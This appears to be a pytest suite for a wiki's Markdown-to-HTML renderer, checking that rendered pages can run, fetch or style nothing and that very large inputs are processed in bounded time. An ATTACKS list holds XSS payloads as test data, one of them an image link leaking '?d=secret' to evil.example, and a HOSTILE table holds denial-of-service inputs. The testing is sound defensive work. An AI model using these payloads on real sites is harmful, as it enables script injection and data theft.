"""A page's HTML: it can do nothing, whatever stands in the page, and it is made in bounded time."""

import re
from collections import Counter
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bank import rendering
from bank.links import Link, extract
from bank.rendering import BLOCKS_LIMIT, INLINE_LIMIT, Remembered, render


def test_ordinary_markdown_is_drawn_with_headings_under_the_pages_own():
    drawn = render("# A\n###### F\n**b** *i* ~~s~~ `c`\n\n- one\n\n3. three\n\n> q\n\n---\n").html
    assert re.sub(' dir="auto"', "", drawn) == (
        "<h2>A</h2>\n<h6>F</h6>\n"
        "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>\n"
        "<ul>\n<li>one</li>\n</ul>\n"
        '<ol start="3">\n<li>three</li>\n</ol>\n'
        "<blockquote>\n<p>q</p>\n</blockquote>\n<hr>\n"
    )


def test_a_table_is_aligned_by_class_since_the_policy_forbids_styles():
    drawn = render("| a | b |\n|:-:|--:|\n| 1 | 2 |\n").html
    assert '<td class="align-right" dir="auto">2</td>' in drawn
    assert "style" not in drawn


def test_code_is_plain():
    assert render("```python\n<b>\n```").html == "<pre><code>&lt;b&gt;\n</code></pre>\n"


def test_wikilinks_lead_where_they_resolve_and_missing_ones_are_marked():
    seen: list[Link] = []

    def resolve(link: Link) -> str | None:
        seen.append(link)
        return f"/bank/{link.target}/" if link.target != "nobody" else None

    body = "[[alice|Our *Alice*]] ![[plan#Goals]] [[nobody]] `[[code]]` \\[[no]]"
    drawn = render(body, resolve).html
    assert [link.target for link in seen] == ["alice", "plan", "nobody"]
    assert '<a class="wikilink" href="/bank/alice/" rel="noopener nofollow noreferrer">' in drawn
    assert ">Our *Alice*</a>" in drawn
    assert ">plan › Goals</a>" in drawn
    assert '<span class="missing" title="There is no such page yet.">nobody</span>' in drawn
    assert "<code>[[code]]</code> [[no]]" in drawn


def test_a_wikilink_in_a_table_keeps_its_label():
    table = "| a |\n|---|\n| [[alice\\|Alice]] |\n"
    drawn = render(table, lambda link: f"/bank/{link.target}/").html
    assert 'href="/bank/alice/"' in drawn
    assert ">Alice</a>" in drawn


@given(st.text(alphabet="[]|#!\\ab` \n", max_size=40))
def test_the_page_draws_the_links_that_the_bank_stores(body: str):
    drawn: list[str] = []
    render(body, lambda link: drawn.append(link.target))
    assert drawn == [link.target for link in extract(body)] or "    " in body


ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<div hx-get="/admin/" hx-trigger="load" data-hx-post="/x">x</div>',
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    '[x](https://a.example "onclick=alert(1) hx-get=/x")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "![x](https://evil.example/p.png?d=secret)",
    "![x](data:image/png;base64,AAAA)",
    "![x](//evil.example/p.png)",
    "[r]: javascript:alert(1)\n\n[r]",
    '```" onclick=alert(1)\nx\n```',
    '[[x" onclick="alert(1)|<img src=x>]]',
    "[[javascript:alert(1)]]",
]


class Elements(HTMLParser):
    """The tags and attributes that a browser would see."""

    def __init__(self, drawn: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(drawn)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_page_runs_fetches_or_styles(attack: str):
    elements = Elements(render(attack, lambda link: link.target).html)
    assert elements.tags <= {"p", "a", "span", "code", "pre"}
    assert {name for name, _ in elements.attributes} <= {"dir", "class", "title", "rel", "href"}
    addresses = [value or "" for name, value in elements.attributes if name == "href"]
    assert not [a for a in addresses if re.match(r"\s*(javascript|vbscript|data):", a, re.I)]


def test_an_image_is_a_link_to_it_and_fetches_nothing():
    drawn = render("![A chart](https://a.example/c.png) ![](local.png)").html
    assert (
        '<a class="image" href="https://a.example/c.png" rel="noopener nofollow noreferrer">'
        "Image: A chart</a>"
    ) in drawn
    assert '<span class="image">Image: local.png</span>' in drawn
    assert "<img" not in drawn


def test_an_image_within_a_link_leaves_the_link_whole():
    drawn = render("[![build](https://a.example/b.svg)](https://a.example/ci)").html
    assert drawn.count("<a ") == 1
    assert '<span class="image">Image: build</span></a>' in drawn


def test_a_footnote_is_drawn_and_a_reference_is_followed():
    drawn = render("See [docs] [^1].\n\n[^1]: [[alice]] said so.\n\n[docs]: https://a.example/\n")
    assert '<a href="https://a.example/" rel="noopener nofollow noreferrer">docs</a>' in drawn.html
    assert "said so." in drawn.html


# Size

HALF_MEGABYTE = 524_288
HOSTILE = {
    "headings": "# h\n",
    "cells": "|c|d|\n",
    "items": "- a\n",
    "nested items": "".join(f"{'  ' * depth}- a\n" for depth in range(15)),
    "quotes": "> a\n\n",
    "nested quotes": f"{'>' * 30} a\n\n",
    "links": "[a](b) ",
    "wikilinks": "[[a]] ",
    "emphasis": "*a **b ",
    "brackets": "[",
    "images": "![a](http://b) ",
    "addresses": "<http://a.b> ",
    "code": "`a` ",
    "lines": "a b\n",
    "references": "[a]: /b\n",
    "paragraphs": "中文段落。\n\n",
    "markers": "1. ",
}


def half_a_megabyte(piece: str) -> str:
    whole = piece * (HALF_MEGABYTE // len(piece.encode()))
    return "|a|b|\n|-|-|\n" + whole if piece.startswith("|") else whole


@pytest.mark.parametrize("piece", HOSTILE.values(), ids=HOSTILE)
def test_half_a_megabyte_of_anything_is_formatted_as_far_as_it_may_cost(
    piece: str, monkeypatch: pytest.MonkeyPatch
):
    body = half_a_megabyte(piece)
    spent = Counter[str]()

    class Counted(rendering._Cost):
        def add(self, cost: int, tokens: int) -> None:
            before = self.left
            try:
                super().add(cost, tokens)
            finally:
                spent["all"] += before - self.left

    monkeypatch.setattr(rendering, "_Cost", Counted)
    drawn = render(body)
    assert body.endswith(drawn.rest)
    assert drawn.rest
    assert spent["all"] <= rendering.PASSES * (BLOCKS_LIMIT + INLINE_LIMIT) * 1.1
    assert len(drawn.html) < 2_000_000


@pytest.mark.parametrize(
    ("piece", "least"),
    [("# h\n", 5_000), ("|c|d|\n", 5_000), ("- a\n", 4_000), ("a b\n", 5_000)],
)
def test_what_stands_before_the_end_of_a_large_page_is_formatted(piece: str, least: int):
    drawn = render(half_a_megabyte(piece))
    assert drawn.html.count("\n") > least


def test_the_formatted_part_and_the_rest_have_every_line_once():
    body = "".join(f"- item {n} of *all*\n\n" for n in range(30_000))
    drawn = render(body)
    formatted = re.findall(r"item (\d+) of <em>all</em>", drawn.html)
    written = re.findall(r"item (\d+) of \*all\*", drawn.rest)
    assert [int(n) for n in formatted + written] == list(range(30_000))


def test_a_page_of_ordinary_length_is_formatted_whole():
    body = "# Title\n\nSome *text* with a [[link]] and `code`.\n\n- one\n- two\n\n" * 1_000
    drawn = render(body)
    assert drawn.rest == ""
    assert drawn.html.count("<h2") == 1_000


def test_no_text_is_dropped_for_being_nested():
    deep = "\n".join("  " * level + f"- level {level}" for level in range(60))
    drawn = render(deep)
    assert all(f"level {level}" in drawn.html + drawn.rest for level in range(60))
    assert "level 9" in drawn.html
    shallow = "\n".join("  " * level + f"- level {level}" for level in range(15))
    assert render(shallow).rest == ""


def test_what_is_not_formatted_is_given_as_text_and_never_as_html():
    drawn = render(">" * 1000 + "<script>")
    assert (drawn.html, drawn.rest) == ("", ">" * 1000 + "<script>")


# What was drawn before


@pytest.fixture
def drawings(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The texts that were drawn, not remembered."""
    drawn: list[str] = []
    original = rendering._render

    def counted(body: str, resolve: rendering.Resolve) -> rendering.Rendered:
        drawn.append(body)
        return original(body, resolve)

    monkeypatch.setattr(rendering, "_render", counted)
    return drawn


def test_a_text_that_is_read_often_is_drawn_once(drawings: list[str]):
    remembered = Remembered()
    first = [remembered(text, lambda link: None) for text in ("# A", "# B")]
    assert [remembered(text, lambda link: None) for text in ("# A", "# B")] == first
    assert drawings == ["# A", "# B"]


def test_a_text_is_drawn_again_once_a_link_of_it_leads_elsewhere(drawings: list[str]):
    remembered = Remembered()
    pages: dict[str, str] = {}
    body = "[[alice]] and [[bob]]"
    for name, address in (("alice", "/a/"), ("alice", "/a/"), ("bob", "/b/"), ("x", "/x/")):
        pages[name] = address
        shown = remembered(body, lambda link: pages.get(link.target)).html
        assert all(f'href="{pages[one]}"' in shown for one in pages if one != "x")
    assert len(drawings) == 2


def test_what_was_read_longest_ago_is_forgotten_first(drawings: list[str]):
    remembered = Remembered(most=3 * len('<p dir="auto">a</p>\n'))
    for text in ("a", "b", "c", "a", "d", "a", "b"):
        remembered(text, lambda link: None)
    assert drawings == ["a", "b", "c", "d", "b"]


def test_a_text_larger_than_all_there_is_room_for_is_drawn_and_not_kept(drawings: list[str]):
    remembered = Remembered(most=10)
    assert remembered("a long text", lambda link: None).html.startswith("<p")
    remembered("a long text", lambda link: None)
    assert len(drawings) == 2


def test_an_embedded_file_that_is_no_page_is_named_and_no_missing_page():
    drawn = render("![[diagram.png]]").html
    assert 'class="image"' in drawn
    assert "diagram.png" in drawn
    assert "missing" not in drawn
